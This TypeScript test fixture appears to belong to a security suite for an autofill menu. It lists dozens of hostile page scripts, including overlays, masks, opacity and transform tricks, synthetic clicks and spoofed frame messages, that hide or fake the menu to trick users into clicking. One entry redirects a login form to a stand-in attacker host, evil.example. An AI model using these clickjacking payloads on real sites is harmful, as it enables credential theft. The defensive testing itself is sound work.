/** What pages do to make a person press what they do not see (design, attacks §2.1). Each runs in a page over which the menu has just opened; `host` is its place, `box` where its first line is. */

/** A page's own layer over the menu. */
const over = (style: string, tag = "div", more = ""): string =>
  `const layer = document.createElement("${tag}"); layer.popover = "manual"; layer.style.cssText = "position:fixed;margin:0;border:0;padding:0;${style}";
   ${more}; document.body.append(layer); layer.showPopover();`;
const ALL = "inset:0;width:100vw;height:100vh;pointer-events:none;";
const wrapped = (style: string, how = "wrapper.append(host); host.showPopover();"): string =>
  `const wrapper = document.createElement("div"); wrapper.style.cssText = ${JSON.stringify(style)}; document.body.append(wrapper); ${how}`;
const NOTHING = "mask-image:linear-gradient(transparent,transparent);-webkit-mask-image:linear-gradient(transparent,transparent)";
const sheet = (rules: string): string =>
  `const rules = document.createElement("style"); rules.textContent = ${JSON.stringify(rules)}; document.head.append(rules);`;
const onPage = (style: string): string => `document.documentElement.style.cssText = ${JSON.stringify(style)};`;
const onHost = (style: string): string =>
  `for (const rule of ${JSON.stringify(style)}.split(";")) { const [name, value] = rule.split(":"); host.style.setProperty(name, value, "important"); }`;

/** After these no press fills in anything. */
export const HIDES: Readonly<Record<string, string>> = {
  "a layer over all": over(`${ALL}background:white`),
  "a layer over a part": over("left:0;top:0;width:1px;height:100vh;pointer-events:none;background:white;box-shadow:60px 0 0 40px white"),
  "a shadow": over("left:0;top:0;width:1px;height:1px;pointer-events:none;box-shadow:0 0 0 900px white"),
  "a shadow, of a layer in a shadow root": over(
    "left:0;top:0;width:1px;height:1px;pointer-events:none;box-shadow:0 0 0 900px white",
    "div",
    `const around = document.createElement("div"); document.body.append(around); around.attachShadow({ mode: "closed" }).append(layer); layer.showPopover(); document.body.append = () => undefined; layer.showPopover = () => undefined`,
  ),
  "a shadow, until it is pressed": `${over("left:0;top:0;width:1px;height:1px;pointer-events:none;box-shadow:0 0 0 900px white")} addEventListener("blur", () => layer.remove());`,
  "a shadow of a layer that is leaving": over(
    "left:0;top:0;width:1px;height:1px;pointer-events:none;box-shadow:0 0 0 900px white;transition:overlay 9999s allow-discrete,display 9999s allow-discrete",
    "div",
    "setTimeout(() => { getComputedStyle(layer).display; layer.hidePopover(); }, 0)",
  ),
  "a layer of one line": over(
    "width:30px;height:6px;pointer-events:none;background:white;inset:auto",
    "div",
    `layer.style.left = box.x + 60 + "px"; layer.style.top = box.y + 20 + "px"`,
  ),
  "a drawing": over(
    ALL,
    "div",
    `layer.innerHTML = '<svg width="100%" height="100%"><rect width="100%" height="100%" fill="white"/></svg>'`,
  ),
  "a picture": over(
    ALL,
    "canvas",
    `layer.width = 900; layer.height = 900; const pen = layer.getContext("2d"); pen.fillStyle = "white"; pen.fillRect(0, 0, 900, 900)`,
  ),
  "a frame": over(`${ALL}background:white`, "iframe"),
  words: over(`${ALL}font-size:60px`, "div", `layer.textContent = "Win a prize ".repeat(60)`),
  "a layer that blends": over(`${ALL}background:white;mix-blend-mode:difference`),
  "a layer that blurs": over(`${ALL}background:none;backdrop-filter:blur(30px)`),
  "a layer that turns colours": over(`${ALL}background:none;backdrop-filter:invert(1)`),
  "the backdrop of a layer": `${sheet("[popover]::backdrop{background:white;opacity:1;pointer-events:none}")}${over("inset:auto;left:0;top:0;width:1px;height:1px")}`,
  "a modal dialog": `const dialog = document.createElement("dialog"); document.body.append(dialog); ${sheet("dialog::backdrop{background:white}")} dialog.showModal();`,
  "a layer that comes late": `setTimeout(() => { ${over(`${ALL}background:white`)} }, 600);`,
  "a layer that comes and goes": `setInterval(() => { document.querySelector("[data-blink]")?.remove(); ${over(`${ALL}background:white`, "div", "layer.dataset.blink = 1")} setTimeout(() => layer.remove(), 200); }, 450);`,
  "a layer that walks": `${over("width:40px;height:300px;pointer-events:none;background:white;left:0;top:0")} let at = 0; setInterval(() => { at = (at + 7) % 380; layer.style.left = box.x + at - 20 + "px"; layer.style.top = box.y - 20 + "px"; }, 16);`,
  "the layer is taken down": "host.hidePopover();",
  "the layer is no layer": `host.removeAttribute("popover");`,
  "it is taken out": "host.remove();",
  "into a mask": wrapped(NOTHING),
  "into a mask, kept": wrapped(NOTHING, "wrapper.moveBefore(host, null);"),
  "into what is clear": wrapped("opacity:0"),
  "into what is filtered": wrapped("filter:opacity(0)", "wrapper.moveBefore(host, null);"),
  "into the page's body": "document.body.append(host); host.showPopover();",
  "the page has no display": onPage("display:none"),
  "the field walks away": `document.querySelector("form").style.cssText = "position:absolute;left:400px;top:500px";`,
  "the field is another": `const field = document.querySelector("[type=email]"); field.replaceWith(field.cloneNode(true));`,
  "the fields are clear": `for (const field of document.querySelectorAll("input")) field.style.opacity = "0";`,
  "the form is hidden": `document.querySelector("form").style.visibility = "hidden";`,
  "the page is another": `document.body.innerHTML = "<form><input type=email><input type=password></form>";`,
  "the form sends in the open": `document.querySelector("form").action = "http://evil.example/";`,
  "the page presses by itself": `host.click(); for (const name of ["pointerdown", "mousedown", "pointerup", "mouseup", "click"]) host.dispatchEvent(new MouseEvent(name, { bubbles: true, composed: true, clientX: box.x + 40, clientY: box.y + 20 })); host.remove();`,
  "the page speaks to the frame": `for (let at = 0; at < frames.length; at++) frames[at].postMessage({ menu: "pick", menuIs: "picked" }, "*"); host.remove();`,
};

/** After these a press may count only where the menu looks as it did. */
export const CHANGES_NOTHING: Readonly<Record<string, string>> = {
  "its place is clear": onHost("opacity:0"),
  "its place is filtered": onHost("filter:opacity(0)"),
  "its place is masked": onHost(NOTHING),
  "its place is cut": onHost("clip-path:inset(50%);clip:rect(0,0,0,0)"),
  "its place is turned": onHost("transform:scale(0.1);scale:0.1;rotate:90deg;translate:900px 0"),
  "its place is small": onHost("width:1px;height:1px;zoom:0.1"),
  "its place is elsewhere": onHost("inset:auto;left:-900px;top:0;position:static"),
  "its place is hidden": onHost("visibility:hidden;content-visibility:hidden;display:none"),
  "its place blends": onHost("mix-blend-mode:difference;backdrop-filter:blur(9px)"),
  "its place takes no pointer": onHost("pointer-events:none"),
  "a sheet over everything": sheet(
    "*{opacity:0!important;filter:blur(20px)!important;visibility:hidden!important}html,body,form,input,label{opacity:1!important;filter:none!important;visibility:visible!important}",
  ),
  "a sheet in a layer": sheet("@layer a{html>div{opacity:0!important;transform:scale(0)!important}}"),
  "an animation of its place": `host.animate([{ opacity: 0, transform: "scale(0)" }, { opacity: 0, transform: "scale(0)" }], { duration: 100000, fill: "both" });`,
  "a transition of its place": sheet("html>div{transition:opacity 1s,transform 1s!important;opacity:0;transform:scale(0)}"),
  "what follows its place": sheet(
    "html>div::before,html>div::after{content:'';position:fixed;inset:0;background:white;display:block}html>div::backdrop{background:white;display:block}",
  ),
  "it is inert": "host.inert = true;",
  "it is put back": "host.remove(); document.documentElement.append(host); host.showPopover();",
  "it is hidden": "host.hidden = true;",
  "the page is clear": onPage("opacity:0"),
  "the page is filtered": onPage("filter:opacity(0)"),
  "the page is masked": onPage(NOTHING),
  "the page is cut": onPage("clip-path:inset(50%)"),
  "the page is moved": onPage("transform:translateX(900px)"),
  "the page is small": onPage("zoom:0.2"),
  "the page is hidden": onPage("visibility:hidden;content-visibility:hidden"),
  "the body is clear": `document.body.style.opacity = "0.01";`,
  "the page blends": onPage("mix-blend-mode:difference;background:white"),
  "a picture of the page before": "document.startViewTransition?.(() => new Promise((resolve) => setTimeout(resolve, 1500)));",
};
